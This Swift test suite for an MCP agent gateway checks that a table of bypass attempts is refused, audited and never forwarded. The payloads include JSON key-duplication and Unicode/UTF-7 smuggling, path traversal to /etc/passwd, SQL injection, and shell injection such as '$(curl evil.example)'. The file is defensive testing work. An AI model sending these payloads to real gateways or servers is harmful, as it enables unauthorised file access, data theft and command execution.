import Foundation
import Gateway
import StrictJSON
import TestSupport
import Testing

/// Ways to slip a call past the policy or the audit log; each must be refused, audited, and never reach the upstream.
@Suite("End-to-end attack table", .serialized)
struct ProxyAttackTableTests {
    static let attacks: [(name: String, body: String, headers: [(String, String)], agent: String)] = [
        (
            "duplicate method key",
            #"{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call","params":{"name":"delete_file","arguments":{}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "duplicate params key",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{}},"params":{"name":"delete_file","arguments":{}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "duplicate name inside params",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","name":"delete_file","arguments":{}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "METHOD case variant", #"{"jsonrpc":"2.0","id":1,"method":"ping","METHOD":"tools/call","params":{"name":"delete_file"}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "escaped duplicate key",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","\u006dethod":"ping","params":{"name":"read_file","arguments":{"path":"a"}}}"#,
            [],
            "acme/agents/bot1"
        ),
        (
            "batch hiding a denied call",
            #"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"}}},{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"delete_file","arguments":{"path":"a"}}}]"#,
            [("MCP-Protocol-Version", "2025-03-26")], "acme/agents/bot1"
        ),
        (
            "batch in a version without batches", #"[{"jsonrpc":"2.0","id":1,"method":"ping"}]"#, [("MCP-Protocol-Version", "2025-06-18")],
            "acme/agents/bot1"
        ),
        (
            // Go's encoding/json matches members ignoring case and keeps the last: a Go server runs delete_file.
            "a case-variant Name and Arguments beside the decided ones",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"},"Name":"delete_file","Arguments":{"path":"a"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            // `ſ` (U+017F) folds to `s` in Go: the server reads these arguments, which the gateway never checked.
            "arguments spelled with a long s",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"},"argumentſ":{"path":"../../etc/passwd"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "traversal",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"../../etc/passwd"}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "encoded traversal",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"%252e%252e/secret"}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "fullwidth traversal",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"．．／secret"}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "nested traversal under a case variant",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"opts":{"PATH":"..\\..\\x"}}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "spoofed agent headers",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query_db","arguments":{"sql":"SELECT 1 "}}}"#,
            [("X-Agent-Id", "bot1"), ("X-Forwarded-User", "bot1"), ("X-MCP-Agent", "analyst-1")], "acme/agents/bot2"
        ),
        (
            "notification carrying a denied call",
            #"{"jsonrpc":"2.0","method":"tools/call","params":{"name":"delete_file","arguments":{"path":"readme.txt"}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "Mcp-Method header disagreeing with the body",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"}}}"#,
            [("Mcp-Method", "tools/list")], "acme/agents/bot1"
        ),
        (
            "Mcp-Name header disagreeing with the body",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"}}}"#,
            [("Mcp-Name", "list_files")], "acme/agents/bot1"
        ),
        (
            "Mcp-Name naming a denied resource through a name member beside an allowed uri",
            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/a.txt","name":"file:///etc/passwd"}}"#,
            [("Mcp-Name", "file:///etc/passwd")], "acme/agents/bot1"
        ),
        ("unknown non-MCP method", #"{"jsonrpc":"2.0","id":1,"method":"admin/shutdown","params":{}}"#, [], "acme/agents/bot1"),
        (
            "resource outside the allowed URIs",
            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///etc/passwd"}}"#, [], "acme/agents/bot1"
        ),
        (
            "another tenant's tool", #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"search_docs","arguments":{}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "global deny", #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_shell","arguments":{"cmd":"id"}}}"#, [],
            "globex/agents/bot1"
        ),
        ("non-JSON content type", #"{"jsonrpc":"2.0","id":1,"method":"ping"}"#, [("Content-Type", "text/plain")], "acme/agents/bot1"),
        (
            // Pure ASCII and strict JSON: a ping to the gateway. Decoded as UTF-7 (as Node's body-parser and the MCP
            // TypeScript SDK decode by the charset), each `+ACI-` is a quote, and the body is a tools/call.
            "a UTF-7 charset turning a ping into a tools/call",
            #"{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":"+ACI-},+ACI-method+ACI-:+ACI-tools/call+ACI-,+ACI-params+ACI-:{+ACI-name+ACI-:+ACI-delete_file+ACI-,+ACI-arguments+ACI-:{},+ACI-z+ACI-:+ACI-"}}"#,
            [("Content-Type", "application/json; charset=utf-7")], "acme/agents/bot1"
        ),
        (
            "JSON inside a string argument hiding a traversal",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"files":"[{\"path\":\"../../../../etc/cron.d/x\"}]"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "a combining mark gluing itself onto the root slash",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"/\u0301etc/passwd"}}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "a division slash standing in for /",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"..\u2215..\u2215etc/passwd"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "JSON inside a string hiding \\u002e-escaped dots",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"files":"[{\"path\":\"\\u002e\\u002e/\\u002e\\u002e/etc/passwd\"}]"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "a NUL glued to an accent",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"notes\u0000\u0301.txt"}}}"#,
            [],
            "acme/agents/bot1"
        ),
        (
            "an overlong UTF-8 slash",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"..%c0%af..%c0%afetc/passwd"}}}"#,
            [], "acme/agents/bot1"
        ),
        (
            "stacked SQL with comments as whitespace",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select 1;drop/**/table users"}}}"#,
            [], "globex/agents/bot1"
        ),
        (
            "an SQL tautology",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select * from users where name = 'x' or '1'='1'"}}}"#,
            [], "globex/agents/bot1"
        ),
        (
            "UNION SELECT behind a comment",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select a from t where id = 1 union/**/distinct select(password) from users"}}}"#,
            [], "globex/agents/bot1"
        ),
        (
            "a time-based SQL call",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select a from t where id = 1 and sleep/**/(5)"}}}"#,
            [], "globex/agents/bot1"
        ),
        (
            "a resource URI leaving its base through dot segments",
            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/../../etc/passwd"}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "a resource URI leaving its base through encoded dot segments",
            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/%252e%252e/%2e%2e/etc/passwd"}}"#, [],
            "acme/agents/bot1"
        ),
        (
            "a shell separator closing a single-quoted splice",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"convert_document","arguments":{"filename":"x.pdf'; reboot; '"}}}"#,
            [], "globex/agents/bot1"
        ),
        (
            "shell command substitution",
            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"convert_document","arguments":{"filename":"$(curl evil.example)"}}}"#,
            [], "globex/agents/bot1"
        ),
    ]

    /// Rows whose call the policy would allow: only the defence they name can refuse them, and it must be the one
    /// that does (its audit rule, and for header mismatches the JSON-RPC code -32020).
    /// What refuses each row: its audit records' `rule`s, in order, and words of the first record's reason. Each row
    /// must be refused by the defence it is about, not by another one that happens to catch it too (a prefix
    /// allowlist behind a traversal check, a tool rule behind a parser check), so that removing that defence fails
    /// the row. `jsonrpc_32700` is the strict parser, `jsonrpc_32600` the envelope checks, `header_mismatch` the
    /// mirrored headers; `A1`, `G2`, `X4`, `X5` and `resource_uri` are argument checks of the shipped policies, `R3`,
    /// `G1` and `default` their tool rules. The agent named in a `default` reason is the one the certificate names.
    static let refusedBy: [String: (rules: [String], reason: String)] = [
        "duplicate method key": (["jsonrpc_32700"], #"duplicate key "method""#),
        "duplicate params key": (["jsonrpc_32700"], #"duplicate key "params""#),
        "duplicate name inside params": (["jsonrpc_32700"], #"duplicate key "name""#),
        "escaped duplicate key": (["jsonrpc_32700"], #"duplicate key "method""#),
        "METHOD case variant": (["jsonrpc_32600"], #"unknown member "METHOD""#),
        "batch in a version without batches": (["jsonrpc_32600"], "batches are not allowed"),
        "non-JSON content type": (["jsonrpc_32600"], "Content-Type must be application/json"),
        "a UTF-7 charset turning a ping into a tools/call": (["jsonrpc_32600"], "charset must be utf-8"),
        "batch hiding a denied call": (["batch", "R3"], "another message in it was refused (R3); this one alone was allowed by R1"),
        "a case-variant Name and Arguments beside the decided ones": (["jsonrpc_32602"], #"params member "Name" reads as "name""#),
        "arguments spelled with a long s": (["jsonrpc_32602"], #"params member "argumentſ" reads as "arguments""#),
        "traversal": (["A1"], "path_traversal: '..' path segment"),
        "encoded traversal": (["A1"], "path_traversal: '..' path segment"),
        "fullwidth traversal": (["A1"], "path_traversal: '..' path segment"),
        "nested traversal under a case variant": (["A1"], "opts.PATH path_traversal: '..' path segment"),
        "spoofed agent headers": (["default"], "query_db for agent bot2; the default is deny"),
        "notification carrying a denied call": (["R3"], "R3 denies delete_file"),
        "Mcp-Method header disagreeing with the body": (["header_mismatch"], "does not match the body's method"),
        "Mcp-Name header disagreeing with the body": (["header_mismatch"], "Mcp-Name header does not match the body"),
        "Mcp-Name naming a denied resource through a name member beside an allowed uri": (
            ["header_mismatch"], "Mcp-Name header does not match the body"
        ),
        "unknown non-MCP method": (["default"], "admin/shutdown for agent bot1; the default is deny"),
        "resource outside the allowed URIs": (["default"], "resources/read file:///etc/passwd"),
        "another tenant's tool": (["default"], "search_docs for agent bot1; the default is deny"),
        "global deny": (["G1"], "no shell access"),
        "JSON inside a string argument hiding a traversal": (["A1"], "files<json>[0].path path_traversal"),
        "a combining mark gluing itself onto the root slash": (["A1"], "combining or format character next to a separator"),
        "a division slash standing in for /": (["A1"], "path_traversal: '..' path segment"),
        "JSON inside a string hiding \\u002e-escaped dots": (["A1"], "files<json>[0].path path_traversal"),
        "a NUL glued to an accent": (["A1"], "NUL byte"),
        "an overlong UTF-8 slash": (["G2"], "decodes to invalid UTF-8"),
        "stacked SQL with comments as whitespace": (["X5"], "sql_injection: stacked statements"),
        "an SQL tautology": (["X5"], "sql_injection: tautology"),
        "UNION SELECT behind a comment": (["X5"], "sql_injection: UNION SELECT"),
        "a time-based SQL call": (["X5"], "sql_injection: time-based call"),
        "a resource URI leaving its base through dot segments": (["default"], "resources/read file:///etc/passwd"),
        "a resource URI leaving its base through encoded dot segments": (["resource_uri"], "cannot be read unambiguously"),
        "a shell separator closing a single-quoted splice": (["X4"], "command separator ';' (spliced"),
        "shell command substitution": (["X4"], "command substitution"),
    ]

    @Test("every attack is refused, audited, and not forwarded", arguments: 0..<attacks.count)
    func attack(index: Int) async throws {
        let attack = Self.attacks[index]
        let upstream = try await RecordingUpstream.start(.json)
        let gateway = try await GatewayFixture.start(upstream: upstream.url)
        var headers = attack.headers
        var client = gateway.client(attack.agent)
        if attack.name == "non-JSON content type" {
            // Replace the client's JSON content type rather than adding a second one.
            headers = []
            client.agent = attack.agent
            let response = try await client.send(body: nil, headers: [("Content-Type", "text/plain")])
            #expect(response.status == 415 || response.status == 400, "\(attack.name): \(response.status)")
        } else {
            let response = try await client.send(body: attack.body, headers: headers)
            #expect(response.status != 202, "\(attack.name)")
            let refused = response.status >= 400 || response.body.contains(#""error""#)
            #expect(refused, "\(attack.name) was not refused: \(response.status) \(response.body)")
            if Self.refusedBy[attack.name]?.rules == ["header_mismatch"] {
                #expect(response.status == 400 && response.body.contains(#""code":-32020"#), "\(attack.name): \(response.body)")
            }
        }
        #expect(upstream.received.isEmpty, "\(attack.name) reached the upstream: \(upstream.received.map(\.body))")
        let records = try gateway.auditRecords()
        #expect(!records.isEmpty, "\(attack.name) left no audit record")
        #expect(records.allSatisfy { !["allow", "audit"].contains($0["decision"]?.stringValue ?? "") }, "\(attack.name): \(records)")
        let expected = try #require(Self.refusedBy[attack.name], "\(attack.name) names no refusing rule")
        #expect(records.map { $0["rule"]?.stringValue } == expected.rules, "\(attack.name) refused by another rule: \(records)")
        #expect(
            records.first?["reason"]?.stringValue?.contains(expected.reason) == true,
            "\(attack.name) refused for another reason: \(records.first?["reason"]?.stringValue ?? "none")")
        try await gateway.stop()
        await upstream.stop()
    }

    @Test("a batch where everything is allowed passes in 2025-03-26, and every message is audited")
    func allowedBatch() async throws {
        let upstream = try await RecordingUpstream.start(.json)
        let gateway = try await GatewayFixture.start(upstream: upstream.url)
        let batch =
            #"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"a"}}},{"jsonrpc":"2.0","method":"notifications/initialized"}]"#
        let response = try await gateway.client().send(body: batch)
        #expect(response.status == 200)
        #expect(upstream.received.map(\.body) == [batch])
        #expect(try gateway.auditRecords().count == 2)
        try await gateway.stop()
        await upstream.stop()
    }

    @Test(
        "the benign look-alike of each attack class reaches the upstream (the rows above are refused for what they carry)",
        arguments: [
            ("globex/agents/bot1", "exec_sql", #"{"query":"select id from tickets where owner = 'O''Brien' -- newest"}"#),
            ("globex/agents/bot1", "convert_document", #"{"filename":"Q3 report (final) $5.pdf"}"#),
            ("acme/agents/bot1", "read_file", #"{"path":"notes..txt","files":"[{\"path\":\"docs/a.txt\"}]"}"#),
            ("acme/agents/bot1", "read_file", #"{"path":"caf\u0065\u0301/menu.txt"}"#),
        ])
    func benignLookAlikes(agent: String, tool: String, arguments: String) async throws {
        let upstream = try await RecordingUpstream.start(.json)
        let gateway = try await GatewayFixture.start(upstream: upstream.url)
        let body = #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"\#(tool)","arguments":\#(arguments)}}"#
        let response = try await gateway.client(agent).send(body: body)
        #expect(response.status == 200, "\(arguments): \(response.status) \(response.body)")
        #expect(upstream.received.map(\.body) == [body], "\(arguments) did not reach the upstream")
        try await gateway.stop()
        await upstream.stop()
    }

    @Test("a resource URI whose dot segments stay inside the pattern's base reaches the upstream")
    func benignResource() async throws {
        let upstream = try await RecordingUpstream.start(.json)
        let gateway = try await GatewayFixture.start(upstream: upstream.url)
        let body = #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/a/../b.txt"}}"#
        let response = try await gateway.client().send(body: body)
        #expect(response.status == 200, "\(response.status) \(response.body)")
        #expect(upstream.received.map(\.body) == [body])
        try await gateway.stop()
        await upstream.stop()
    }

    @Test("under concurrent load every decision leaves exactly one parseable audit record")
    func auditUnderLoad() async throws {
        let upstream = try await RecordingUpstream.start(.json)
        let gateway = try await GatewayFixture.start(upstream: upstream.url)
        let token = try GatewayFixture.token()
        let calls = 200
        let statuses = try await withThrowingTaskGroup(of: Int.self) { group in
            for index in 0..<calls {
                group.addTask {
                    let tool = index % 3 == 0 ? "delete_file" : "read_file"
                    let response = try await gateway.client(nil).send(
                        body: RPC.call(tool, #"{"path":"f\#(index)"}"#, id: index),
                        headers: [("Authorization", "Bearer \(token)")])
                    return response.status
                }
                if index % 16 == 15 { _ = try await group.next() }
            }
            var all: [Int] = []
            for try await status in group { all.append(status) }
            return all
        }
        // acme's tenant-wide limit L2 (burst 100) rate-limits part of the 133 allowed calls: that is the point.
        #expect(statuses.allSatisfy { $0 == 200 || $0 == 429 })
        let records = try gateway.auditRecords()
        #expect(records.count == calls)
        #expect(Set(records.compactMap { $0["jsonrpc_id"]?.numberValue?.int64Value }).count == calls)
        func count(_ decision: String) -> Int { records.filter { $0["decision"] == .string(decision) }.count }
        #expect(count("deny") == (0..<calls).filter { $0 % 3 == 0 }.count)
        #expect(count("rate_limited") == statuses.filter { $0 == 429 }.count)
        #expect(upstream.received.count == count("allow"))
        #expect(count("allow") + count("deny") + count("rate_limited") == calls)
        try await gateway.stop()
        await upstream.stop()
    }
}
